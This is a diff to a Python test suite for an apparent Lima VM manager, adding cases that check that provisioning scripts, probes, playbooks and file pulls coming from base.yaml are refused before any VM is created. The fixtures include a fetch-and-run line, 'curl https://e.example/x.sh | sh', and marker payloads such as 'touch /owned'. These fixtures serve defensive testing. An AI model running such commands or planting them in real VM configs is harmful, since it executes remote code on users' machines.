@@ -28,6 +28,9 @@ KINDS = {
     "trusted X11": ("DVM304", "ssh:\n  forwardX11: true\n  forwardX11Trusted: true\n", "strict"),
     "network": ("DVM305", "networks:\n- lima: user-v2\n", "strict"),
     "provision": ("DVM306", "provision:\n- mode: system\n  script: touch /owned\n", "strict"),
+    "yq": ("DVM306", "provision:\n- {mode: yq, expression: .a = 1, path: /etc/a.yaml}\n", "strict"),
+    "playbook": ("DVM306", "provision:\n- mode: ansible\n  playbook: {home}/key\n", "strict"),
+    "probe": ("DVM306", "probes:\n- mode: readiness\n  script: |\n    #!/bin/sh\n    touch /tmp/owned\n", "strict"),
     "copyToHost": ("DVM307", "copyToHost:\n- guest: /etc/hostname\n  host: {home}/x\n", "strict"),
     "proxies": ("DVM308", "propagateProxyEnv: true\n", "strict"),
     "proxy by hand": ("DVM308", "env:\n  http_proxy: http://me:hunter2@proxy.example:1\n", "strict"),
@@ -50,9 +53,17 @@ CASES = [
     (kind, name) for kind in KINDS for name in ("override", "default") if not (name == "default" and kind in SET_BY_DVM)
 ]
 # base.yaml is merged once, before what `create` sets: mounts, forwards and plain values of its do not get through.
-FROM_BASE = ("VNC on every address", "network", "provision", "copyToHost", "proxy by hand", "disk")
+FROM_BASE = ("VNC on every address", "network", "provision", "yq", "probe", "copyToHost", "proxy by hand", "disk")
 CASES += [(kind, "base") for kind in (*FROM_BASE, "host file as a certificate")]
-REPLACED = sorted(KINDS.keys() - {kind for kind, name in CASES if name == "base"})
+REPLACED = sorted(KINDS.keys() - {kind for kind, name in CASES if name == "base"} - {"playbook"})
+# What base.yaml pulls in or has run on the host is seen before anything is created.
+PULLED = {
+    "base": "base: ./other.yaml\n",
+    "base of Lima's own": "base: template:docker\n",
+    "file": "provision:\n- mode: system\n  file: ./other.yaml\n",
+    "file of a probe": "probes:\n- file: ./other.yaml\n",
+    "playbook": KINDS["playbook"][1],
+}
 
 
 @pytest.fixture(params=["simulator", pytest.param("real", marks=pytest.mark.real)])
@@ -114,6 +125,22 @@ def test_what_base_yaml_brings_of_what_dvm_sets_is_replaced(either: Dvm, kind: s
     assert [rule for rule in config.get("portForwards", ()) if not rule.get("ignore")] == []
     assert (config["ssh"]["forwardAgent"], config["ssh"]["forwardX11"]) == (False, False)
     assert config["propagateProxyEnv"] is False
+
+
+@pytest.mark.parametrize("kind", PULLED)
+def test_what_base_yaml_pulls_in_is_not_even_created(either: Dvm, kind: str) -> None:
+    config = either.lima_home / "_config"
+    config.mkdir(mode=0o700, exist_ok=True)
+    path = config / "base.yaml"
+    path.write_text(PULLED[kind].replace("{home}", str(either.place)))
+    path.chmod(0o600)
+    (config / "other.yaml").write_text("provision: [{script: curl https://e.example/x.sh | sh}]\n")
+    either.manifest('[vm.app]\ntemplate = "./t.yaml"\n')
+    result = either.run("apply", "-y")
+    assert result.code == 3, result.out + result.err
+    assert "DVM111" in result.out + result.err
+    assert str(path) in result.out + result.err
+    assert either.limactl("list", "--json").out == ""
 
 
 def test_what_base_yaml_injects_is_found_as_well(either: Dvm) -> None:
